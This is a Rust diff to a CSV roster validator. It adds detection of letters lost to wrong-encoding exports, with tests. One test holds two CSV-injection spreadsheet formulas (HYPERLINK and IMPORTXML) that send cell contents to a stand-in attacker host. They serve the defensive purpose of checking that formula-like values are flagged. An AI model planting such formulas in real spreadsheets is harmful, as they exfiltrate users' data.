@@ -54,7 +54,7 @@ pub fn is_clean(field: Field, raw: &[u8]) -> bool {
             Field::FullName => is_clean_name(raw),
             Field::SalesforceUserId => sfid::is_clean(raw),
             Field::SalesforceLogin => is_clean_sf_login(raw).is_some(),
-            Field::Office365Login | Field::Office365Email => address::valid_case(raw).is_some(),
+            Field::Office365Login | Field::Office365Email => address::clean_case(raw).is_some(),
         }
 }
 
@@ -70,19 +70,21 @@ pub fn plain_ends(raw: &[u8]) -> bool {
         && raw.len() <= MAX_CELL_CHARS
 }
 
-/// [`is_clean`]'s test of a full name with [`plain_ends`]: printable ASCII throughout.
+/// [`is_clean`]'s test of a full name with [`plain_ends`]: printable ASCII throughout, and no
+/// `?` (which may stand for a lost letter: the full rules decide).
 pub fn is_clean_name(raw: &[u8]) -> bool {
     // A fold, not `all`: no early exit, so it compiles to a vector loop.
-    raw.iter().fold(true, |ok, c| ok & (0x20..0x7f).contains(c))
+    raw.iter()
+        .fold(true, |ok, &c| ok & (0x20..0x7f).contains(&c) & (c != b'?'))
 }
 
 /// [`is_clean`]'s test of a Salesforce login with [`plain_ends`], with
-/// [`address::valid_case`]'s answer.
+/// [`address::clean_case`]'s answer.
 pub fn is_clean_sf_login(raw: &[u8]) -> Option<bool> {
     if raw.len() > address::SF_LOGIN_MAX {
         return None;
     }
-    address::valid_case(raw)
+    address::clean_case(raw)
 }
 
 /// `wrong-field-count`: the row starting on `line` has `found` fields where the header has
@@ -203,8 +205,13 @@ pub fn check_cell(field: Field, raw: &str, out: &mut Vec<Finding>) {
             .with_fix(value),
         );
     }
+    let lost = lost_characters(field, value, out);
     // Printable ASCII has none of the inner debris below: skip the char walk.
     if !value.bytes().all(|b| (0x20..0x7f).contains(&b)) && inner_debris(field, value, out) {
+        return;
+    }
+    if lost {
+        // The letters are gone: no check of what is left can make the value right.
         return;
     }
     match field {
@@ -214,6 +221,66 @@ pub fn check_cell(field: Field, raw: &str, out: &mut Vec<Finding>) {
             address::check(field, value, out)
         }
     }
+}
+
+/// The remedy for lost characters: the letters are not in the file, so only a new export helps.
+const REEXPORT: &str = "the letters are not in the file, so nothing here can restore them: save \
+                        the roster from the spreadsheet as \"CSV UTF-8\" (or \"Unicode Text\") and \
+                        import it again";
+
+/// `lost-characters`: letters an encoding could not hold, replaced before the file reached us.
+/// U+FFFD (what a decoder puts for bytes it could not read) anywhere; and, except in IDs
+/// (ASCII, so never lost this way: a `?` there is a typo, `sfid-format`), a `?` next to a
+/// letter or another `?`: Excel and LibreOffice write `?` for every letter the chosen code
+/// page lacks (`Łukasz Żółć` saved as Windows-1252 is `?ukasz ?ó??`). Real names and logins
+/// have no `?`; a lone one between spaces, or one starting a URL query in a pasted formula,
+/// is left alone. Returns true when found.
+fn lost_characters(field: Field, value: &str, out: &mut Vec<Finding>) -> bool {
+    let check_qmark = field != Field::SalesforceUserId && value.contains('?');
+    if !(check_qmark || (!value.is_ascii() && value.contains('\u{FFFD}'))) {
+        return false;
+    }
+    let chars: Vec<char> = value.chars().collect();
+    let wordy = |i: Option<usize>| {
+        i.and_then(|i| chars.get(i))
+            .is_some_and(|&c| c == '?' || c.is_alphabetic())
+    };
+    // `?name=` starts a URL's query (`=HYPERLINK("http://x.example/?id=1")`), not a word.
+    let query = |i: usize| {
+        let name = chars[i + 1..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
+            .count();
+        name > 0 && chars.get(i + 1 + name) == Some(&'=')
+    };
+    let found = chars.iter().enumerate().find(|&(i, &c)| {
+        c == '\u{FFFD}'
+            || (c == '?'
+                && check_qmark
+                && (wordy(i.checked_sub(1)) || wordy(Some(i + 1)))
+                && !query(i))
+    });
+    let Some((i, &c)) = found else {
+        return false;
+    };
+    let at = i + 1;
+    let what = if c == '?' {
+        format!(
+            "'?' at character {at} stands for a letter: the file was saved in an encoding that \
+             could not hold it (plain \"CSV\" in a Windows code page?)"
+        )
+    } else {
+        format!(
+            "'\u{FFFD}' (U+FFFD) at character {at} is what a program writes for bytes it could \
+             not read as text: characters were lost before the file reached us"
+        )
+    };
+    out.push(Finding::new(
+        field,
+        Code::LostCharacters,
+        format!("{what}; {REEXPORT}"),
+    ));
+    true
 }
 
 /// Line breaks, invisible and control characters inside a value. Returns true when the value
@@ -354,6 +421,75 @@ mod tests {
     }
 
     #[test]
+    fn lost_letters_are_an_error_without_a_fix() {
+        // What LibreOffice and Excel write for names saved as Windows-1252.
+        for name in ["?ukasz ?ó??", "Ji?í Dvo?ák", "?? ??", "Zo?", "Anna ?mith"] {
+            assert_eq!(
+                run(Field::FullName, name),
+                vec![(Code::LostCharacters, None)],
+                "{name}"
+            );
+        }
+        assert_eq!(
+            run(Field::Office365Email, "?ukasz.?ol?@acme.com"),
+            vec![(Code::LostCharacters, None)]
+        );
+        assert_eq!(
+            run(Field::SalesforceLogin, "jan@?od?.pl"),
+            vec![(Code::LostCharacters, None)]
+        );
+        // U+FFFD in any field, IDs included.
+        for field in Field::ALL {
+            let found = run(field, "Jos\u{FFFD}@acme.com");
+            assert_eq!(found, vec![(Code::LostCharacters, None)], "{field:?}");
+        }
+        // A `?` in an ID is a typo, as before.
+        assert_eq!(
+            run(Field::SalesforceUserId, "005Hs?0000AbCdE")[0].0,
+            Code::SfidFormat
+        );
+        // Other problems are still reported, their fixes too (the letters stay lost).
+        assert_eq!(
+            run(Field::FullName, " Ji?í"),
+            vec![
+                (Code::SurroundingWhitespace, Some("Ji?í".into())),
+                (Code::LostCharacters, None)
+            ]
+        );
+        let mut out = Vec::new();
+        check_cell(Field::FullName, "Ji?í Dvo?ák", &mut out);
+        assert!(out[0].message.contains("character 3"), "{}", out[0].message);
+        assert!(out[0].message.contains("CSV UTF-8"), "{}", out[0].message);
+    }
+
+    #[test]
+    fn a_lone_question_mark_is_not_a_lost_letter() {
+        assert!(run(Field::FullName, "Jane Doe (?)").is_empty());
+        assert!(run(Field::FullName, "Jane ? Doe").is_empty());
+        // A URL's query in a formula (the benchmark generator's CSV-injection names).
+        for v in [
+            "=HYPERLINK(\"http://evil.example.com/?leak=\"&B2,\"Click for details\")",
+            "=IMPORTXML(CONCAT(\"http://evil.example.com/?v=\",C2),\"//a\")",
+        ] {
+            assert_eq!(
+                run(Field::FullName, v),
+                vec![(Code::FormulaLike, None)],
+                "{v}"
+            );
+        }
+        // The benchmark generator's valid tricky names.
+        for name in [
+            "Ælfgifu Þórsdóttir",
+            "山田 太郎",
+            "محمد العلي",
+            "O'Brien, Pat",
+            "Zoë \"Z\" Brontë",
+        ] {
+            assert!(run(Field::FullName, name).is_empty(), "{name}");
+        }
+    }
+
+    #[test]
     fn missing_and_blank() {
         assert_eq!(run(Field::FullName, ""), vec![(Code::MissingValue, None)]);
         assert_eq!(
@@ -418,7 +554,7 @@ mod tests {
         /// The fast path never hides a finding.
         #[test]
         fn clean_means_no_findings(
-            v in "[ a-zA-Z0-9.@'=+;<>:-]{0,30}|005[a-zA-Z0-9]{12,15}",
+            v in "[ a-zA-Z0-9.@'=+;<>:?-]{0,30}|005[a-zA-Z0-9]{12,15}",
             f in 0usize..5,
         ) {
             let field = Field::ALL[f];
@@ -441,6 +577,9 @@ mod tests {
         assert!(!is_clean(Field::SalesforceUserId, b"005Hs00000AbCdE"));
         assert!(!is_clean(Field::FullName, b" Jane"));
         assert!(!is_clean(Field::FullName, "Zoë".as_bytes()));
+        assert!(!is_clean(Field::FullName, b"Zo?"));
+        assert!(!is_clean(Field::Office365Login, b"zo?@acme.com"));
+        assert!(!is_clean(Field::SalesforceLogin, b"zo?@acme.com"));
     }
 
     #[test]
